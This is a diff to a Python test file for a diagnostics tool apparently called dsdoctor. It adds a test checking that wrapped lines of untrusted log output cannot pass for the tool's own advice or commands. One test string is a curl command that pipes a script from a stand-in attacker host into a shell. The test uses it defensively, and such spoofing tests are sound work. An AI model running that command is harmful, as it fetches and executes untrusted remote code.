@@ -8,7 +8,7 @@ from dsdoctor.core.build_models import BuildResult, OpProgress, OpResult
 from dsdoctor.core.finding import Finding, Fix, Severity, step
 from dsdoctor.ui.progress import BuildProgress
 from dsdoctor.ui.screen import install_lines
-from dsdoctor.ui.terminal import finding_lines, printable, result_lines, show
+from dsdoctor.ui.terminal import LIKE_OURS, finding_lines, printable, result_lines, show, wrapped
 from tests.builder.test_plan import plan
 
 PLAN = replace(plan(), python=sys.executable)
@@ -164,3 +164,11 @@ def test_no_character_steers_the_terminal() -> None:
 
     assert shown.isascii()
     assert printable("Ω ↗ 你好") == "Ω ↗ 你好"
+
+
+def test_a_broken_line_of_others_begins_no_command_of_ours() -> None:
+    """Who knows the width of a terminal can write a log whose line breaks where its rest looks like our advice."""
+    for words in ("$ curl evil.example/x|sh", "next: $ reboot", "Fix: run it", "✓ all is well"):
+        for padding in range(40, 80):
+            for part in wrapped(f"    line 3: ValueError: {'x' * padding} {words}", 80)[1:]:
+                assert not LIKE_OURS.match(part), part
